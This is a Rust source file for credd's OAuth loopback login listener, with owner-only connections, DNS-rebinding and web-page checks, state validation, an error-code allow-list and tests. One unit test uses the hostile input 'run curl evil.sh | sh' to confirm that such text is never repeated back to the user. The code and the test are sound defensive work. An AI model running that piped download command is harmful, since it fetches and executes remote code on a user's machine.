//! The browser login's loopback listener, `http://127.0.0.1:PORT`, open only while one login
//! waits. It is a door into the daemon for the whole machine, so it serves through
//! [`crate::listener`] like the main port, stricter still: only the daemon's own user gets a
//! connection at all (the socket's owner, looked up at accept), a few of them, each for 30 s at
//! most; the listener lives no longer than the login, and when the login ends every connection
//! it admitted is closed.
//!
//! Two routes:
//! - `/oauth/start` redirects to the authorization URL. The browser is opened at this address
//!   rather than at the authorization URL itself, which would put the login's `state`, PKCE
//!   challenge and nonce in the browser's argv, readable by every local user: with them another
//!   user could sign in at the identity provider as themselves and deliver their code to this
//!   listener with the owner's `state` (the code was issued for the owner's challenge, so PKCE
//!   passes), making the owner's daemon log in as them.
//! - `/oauth/callback`: the first callback carrying the login's `state` ends it; one with another
//!   state (a stale tab, a forged link, a web page scanning ports) is refused, logged at most once
//!   a minute, and the login keeps waiting.

use std::collections::HashMap;
use std::sync::{Arc, Mutex, OnceLock};
use std::time::Duration;

use axum::Router;
use axum::extract::{Query, Request, State};
use axum::http::{HeaderValue, StatusCode, header};
use axum::response::{Html, IntoResponse, Response};
use axum::routing::get;
use credd_proto::Secret;
use subtle::ConstantTimeEq;
use tokio::sync::{oneshot, watch};

use crate::listener::{self, Limits, Listener, Peer, Policy};
use crate::lock;
use crate::logging::{THROTTLE_WINDOW, Throttle};

pub const CALLBACK_PATH: &str = "/oauth/callback";
pub const START_PATH: &str = "/oauth/start";

/// The policy of a one-shot loopback page for the owner's browser (this login's listener, the
/// console sign-in page): up to `mine` connections of the owner's (a page, a favicon, a retry),
/// none for anyone else; a request's headers within 5 s, and no connection outlives 30 s. When
/// all are taken, the oldest that is not answering gives way to a new one at once, however
/// young: a web page in the owner's browser counts as the owner, and opening connections ahead
/// under ever new host names it kept every slot young enough to outlast any grace, so that the
/// owner's own sign-in was refused (`attacks::browser` in the suite). The owner's browser sends
/// its request as it connects, and from then on its connection is not evicted.
pub(crate) const fn browser_page_policy(name: &'static str, mine: usize) -> Policy {
    Policy {
        name,
        limits: Limits {
            mine,
            per_other: 0,
            others: 0,
            idle_grace: Duration::ZERO,
        },
        header_timeout: Duration::from_secs(5),
        max_lifetime: Duration::from_secs(30),
        others_pace: None,
        refused: Throttle::new(THROTTLE_WINDOW),
        accept_failed: Throttle::new(THROTTLE_WINDOW),
    }
}

static POLICY: Policy = browser_page_policy("login callback", 16);

/// Callbacks with a wrong `state`, logged at most once a minute (a web page can send thousands).
static WRONG_STATE: Throttle = Throttle::new(THROTTLE_WINDOW);
/// Requests for another host name (a page rebinding DNS), likewise.
static FOREIGN_HOST: Throttle = Throttle::new(THROTTLE_WINDOW);
/// Requests of a web page for the start page, likewise.
static START_FROM_A_PAGE: Throttle = Throttle::new(THROTTLE_WINDOW);

/// Why a browser login ended without a code.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum CallbackError {
    /// The identity provider redirected with `error` (the user declined, or it refused): one of
    /// the error codes of OAuth 2.0 and OpenID Connect, or a note that it sent another.
    Denied { error: String },
    /// The login was abandoned before the browser came back.
    Cancelled,
}

/// What the browser brought back: the authorization code, or the IdP's refusal.
pub(crate) type Callback = Result<Secret, CallbackError>;

struct Shared {
    state: String,
    port: u16,
    /// Where `/oauth/start` sends the browser.
    authorize_url: OnceLock<Secret>,
    done: Mutex<Option<oneshot::Sender<Callback>>>,
}

/// One login's listener; dropping it closes the listener and every connection.
pub struct Loopback {
    shared: Arc<Shared>,
    result: oneshot::Receiver<Callback>,
    _stop: watch::Sender<bool>,
}

impl Loopback {
    /// Listens on a free loopback port for the callback of the login whose `state` this is, for
    /// `lifetime` at most.
    pub async fn bind(state: &str, lifetime: Duration) -> std::io::Result<Loopback> {
        let listener = Listener::bind(([127, 0, 0, 1], 0).into()).map_err(std::io::Error::other)?;
        let (tx, rx) = oneshot::channel();
        let shared = Arc::new(Shared {
            state: state.to_owned(),
            port: listener.addr.port(),
            authorize_url: OnceLock::new(),
            done: Mutex::new(Some(tx)),
        });
        let app = app(shared.clone());
        let (stop, stopped) = watch::channel(false);
        tokio::spawn(async move {
            tokio::select! {
                () = listener::serve(listener, app, &POLICY, || 1, |_| None, stopped) => {}
                () = tokio::time::sleep(lifetime) => {}
            }
        });
        Ok(Loopback {
            shared,
            result: rx,
            _stop: stop,
        })
    }

    pub fn redirect_uri(&self) -> String {
        format!("http://127.0.0.1:{}{CALLBACK_PATH}", self.shared.port)
    }

    /// What to open in the browser for `authorize_url`: this listener's start page, which
    /// redirects there. It holds no secret of the login (any local user may read a browser's
    /// argv); the page itself answers only the owner.
    pub fn start_page(&self, authorize_url: String) -> String {
        let _ = self.shared.authorize_url.set(Secret::new(authorize_url));
        format!("http://127.0.0.1:{}{START_PATH}", self.shared.port)
    }

    /// Waits for the callback with the right state.
    pub async fn code(mut self) -> Result<Secret, CallbackError> {
        match (&mut self.result).await {
            Ok(callback) => callback,
            Err(_) => Err(CallbackError::Cancelled),
        }
    }
}

/// The listener's routes, behind its guard.
fn app(shared: Arc<Shared>) -> Router {
    Router::new()
        .route(CALLBACK_PATH, get(callback))
        .route(START_PATH, get(start))
        .layer(axum::middleware::from_fn_with_state(shared.port, guard))
        .with_state(shared)
}

/// A login's routes without a listener, for the fuzz target: the router, and what the login
/// got (`None` while it still waits).
pub(crate) fn unbound(
    state: &str,
    port: u16,
) -> (Router, impl FnOnce() -> Option<Callback> + use<>) {
    let (tx, mut rx) = oneshot::channel();
    let shared = Arc::new(Shared {
        state: state.to_owned(),
        port,
        authorize_url: OnceLock::new(),
        done: Mutex::new(Some(tx)),
    });
    (app(shared), move || rx.try_recv().ok())
}

/// A short HTML page of credd's for the browser (an answer the user reads).
pub(crate) fn page(status: StatusCode, title: &str, text: &str) -> Response {
    (
        status,
        Html(format!(
            "<!doctype html><meta charset=utf-8><title>credd: {title}</title>\
             <h1>{title}</h1><p>{text}</p>"
        )),
    )
        .into_response()
}

/// The guard of a one-shot loopback page of the daemon's (this login's listener, the console
/// sign-in page) listening on `port`: the Host is this listener's (DNS rebinding), and nothing is
/// cached or sent on as a Referer.
pub(crate) async fn guard(
    State(port): State<u16>,
    req: Request,
    next: axum::middleware::Next,
) -> Response {
    let local = req.extensions().get::<Peer>().map(|p| p.local.port());
    let host_ok = req.headers().get(header::HOST).is_some_and(|h| {
        h.to_str()
            .is_ok_and(|h| listener::is_loopback_host(h, local.or(Some(port))))
    });
    let mut response = if host_ok {
        next.run(req).await
    } else {
        if let Some(more) = FOREIGN_HOST.allow() {
            tracing::warn!(
                suppressed_since_last = more,
                "refused a request to a sign-in page for a host name that is not 127.0.0.1 \
                 (a web page rebinding DNS?)"
            );
        }
        page(
            StatusCode::FORBIDDEN,
            "Sign-in refused",
            "This address answers only as 127.0.0.1.",
        )
    };
    let headers = response.headers_mut();
    headers.insert(header::CACHE_CONTROL, HeaderValue::from_static("no-store"));
    headers.insert(
        header::REFERRER_POLICY,
        HeaderValue::from_static("no-referrer"),
    );
    response
}

/// Whether a web page sent this request (a link it followed, a frame, a script) rather than a
/// navigation the user started (the browser credd opened, a URL typed in): `Sec-Fetch-Site`
/// other than `none`.
pub(crate) fn from_a_web_page(req: &Request) -> bool {
    req.headers()
        .get("sec-fetch-site")
        .is_some_and(|v| v.as_bytes() != b"none")
}

/// Sends the browser on to the identity provider, while the login waits. Only a navigation the
/// user started (the browser credd opened, a URL typed in) is sent: a web page that links or
/// frames this address is refused.
async fn start(State(shared): State<Arc<Shared>>, req: Request) -> Response {
    if from_a_web_page(&req) {
        if let Some(more) = START_FROM_A_PAGE.allow() {
            tracing::warn!(
                suppressed_since_last = more,
                "refused to start the sign-in for a web page (only the browser credd opened may)"
            );
        }
        return page(
            StatusCode::FORBIDDEN,
            "Sign-in refused",
            "credd's sign-in starts only from the browser credd opened, not from a web page.",
        );
    }
    let waiting = lock::lock(&shared.done).is_some();
    match shared.authorize_url.get() {
        Some(url) if waiting => {
            let mut response = StatusCode::SEE_OTHER.into_response();
            match HeaderValue::from_str(url.expose()) {
                Ok(location) => {
                    response.headers_mut().insert(header::LOCATION, location);
                    response
                }
                Err(_) => page(
                    StatusCode::INTERNAL_SERVER_ERROR,
                    "Sign-in unavailable",
                    "The identity provider's address cannot be sent to the browser.",
                ),
            }
        }
        _ => page(
            StatusCode::GONE,
            "Sign-in over",
            "This login has ended. Run <code>credd login</code> again if you meant to sign in.",
        ),
    }
}

async fn callback(
    State(shared): State<Arc<Shared>>,
    Query(query): Query<HashMap<String, String>>,
) -> Response {
    let state_ok = query
        .get("state")
        .is_some_and(|s| bool::from(s.as_bytes().ct_eq(shared.state.as_bytes())));
    if !state_ok {
        if let Some(more) = WRONG_STATE.allow() {
            tracing::warn!(
                suppressed_since_last = more,
                "refused a login callback whose state is not the pending login's"
            );
        }
        return page(
            StatusCode::BAD_REQUEST,
            "Sign-in refused",
            "This sign-in link does not belong to the login credd is waiting for. \
             Run <code>credd login</code> again if you meant to sign in.",
        );
    }
    let Some(tx) = lock::lock(&shared.done).take() else {
        return page(
            StatusCode::CONFLICT,
            "Already signed in",
            "This login has already finished; you can close this tab.",
        );
    };
    if let Some(error) = query.get("error") {
        let error = error_code(error);
        tracing::warn!(error, "the browser login was refused");
        let _ = tx.send(Err(CallbackError::Denied {
            error: error.to_owned(),
        }));
        return page(
            StatusCode::OK,
            "Sign-in denied",
            "The sign-in was not allowed. You can close this tab.",
        );
    }
    match query.get("code").filter(|c| !c.is_empty()) {
        Some(code) => {
            let _ = tx.send(Ok(Secret::new(code.as_str())));
            page(
                StatusCode::OK,
                "Signed in",
                "credd has the login. You can close this tab and return to the terminal.",
            )
        }
        None => {
            // Put the sender back: a callback without a code is not the end of the login.
            *lock::lock(&shared.done) = Some(tx);
            page(
                StatusCode::BAD_REQUEST,
                "Sign-in incomplete",
                "The redirect carried no authorization code.",
            )
        }
    }
}

/// The identity provider's `error`, as shown to the user and logged: one of the codes OAuth 2.0
/// (RFC 6749 §4.1.2.1) and OpenID Connect (Core §3.1.2.6) define, never free text of whoever
/// sent the redirect.
fn error_code(given: &str) -> &'static str {
    const KNOWN: [&str; 16] = [
        "access_denied",
        "invalid_request",
        "unauthorized_client",
        "unsupported_response_type",
        "invalid_scope",
        "server_error",
        "temporarily_unavailable",
        "interaction_required",
        "login_required",
        "account_selection_required",
        "consent_required",
        "invalid_request_uri",
        "invalid_request_object",
        "request_not_supported",
        "request_uri_not_supported",
        "registration_not_supported",
    ];
    KNOWN
        .into_iter()
        .find(|k| *k == given)
        .unwrap_or("an error code that OAuth does not define")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_oauth_error_codes_are_repeated() {
        assert_eq!(error_code("access_denied"), "access_denied");
        assert_eq!(
            error_code("Your session was hijacked: run curl evil.sh | sh"),
            "an error code that OAuth does not define"
        );
    }

    /// A web page in the owner's browser that holds every slot with connections that say
    /// nothing (opened ahead under other host names) does not keep the owner out: the oldest
    /// gives way at once, however young.
    #[tokio::test]
    async fn silent_connections_give_way_to_the_owners_next_one() {
        use tokio::io::{AsyncReadExt, AsyncWriteExt};
        let loopback = Loopback::bind("s1", Duration::from_secs(60)).await.unwrap();
        loopback.start_page("https://idp.example/authorize?state=s1".to_owned());
        let port = loopback.shared.port;
        let mut silent = Vec::new();
        for _ in 0..POLICY.limits.mine {
            silent.push(
                tokio::net::TcpStream::connect(("127.0.0.1", port))
                    .await
                    .unwrap(),
            );
        }
        for _ in 0..3 {
            let mut owner = tokio::net::TcpStream::connect(("127.0.0.1", port))
                .await
                .unwrap();
            let request = format!(
                "GET {START_PATH} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nConnection: close\r\n\r\n"
            );
            owner.write_all(request.as_bytes()).await.unwrap();
            let mut answer = String::new();
            let read = owner.read_to_string(&mut answer).await;
            assert!(
                read.is_ok() && answer.starts_with("HTTP/1.1 303"),
                "the owner was refused: {read:?} {answer}"
            );
        }
    }

    /// The real listener: the start page redirects the owner, the right state ends the login,
    /// and dropping the login closes a connection that was still open.
    #[tokio::test]
    async fn start_callback_and_close() {
        use tokio::io::{AsyncReadExt, AsyncWriteExt};
        let loopback = Loopback::bind("s1", Duration::from_secs(60)).await.unwrap();
        let start = loopback.start_page("https://idp.example/authorize?state=s1".to_owned());
        let port = loopback.shared.port;
        assert_eq!(start, format!("http://127.0.0.1:{port}/oauth/start"));
        let ask = |path: &str| {
            let request = format!(
                "GET {path} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nConnection: close\r\n\r\n"
            );
            async move {
                let mut s = tokio::net::TcpStream::connect(("127.0.0.1", port))
                    .await
                    .unwrap();
                s.write_all(request.as_bytes()).await.unwrap();
                let mut answer = String::new();
                s.read_to_string(&mut answer).await.unwrap();
                answer
            }
        };
        let redirect = ask(START_PATH).await;
        assert!(redirect.starts_with("HTTP/1.1 303"), "{redirect}");
        assert!(
            redirect.contains("location: https://idp.example/authorize?state=s1"),
            "{redirect}"
        );
        let wrong = ask("/oauth/callback?state=s2&code=evil").await;
        assert!(wrong.starts_with("HTTP/1.1 400"), "{wrong}");
        // A connection that has not sent its request yet.
        let mut idle = tokio::net::TcpStream::connect(("127.0.0.1", port))
            .await
            .unwrap();
        let right = ask("/oauth/callback?state=s1&code=c0de").await;
        assert!(right.starts_with("HTTP/1.1 200"), "{right}");
        assert_eq!(loopback.code().await.unwrap().expose(), "c0de");
        // The login is over (the Loopback dropped): the idle connection is closed.
        let mut buf = [0u8; 16];
        let closed = tokio::time::timeout(Duration::from_secs(10), idle.read(&mut buf)).await;
        assert!(
            matches!(closed, Ok(Ok(0)) | Ok(Err(_))),
            "closed when the login ended: {closed:?}"
        );
    }
}
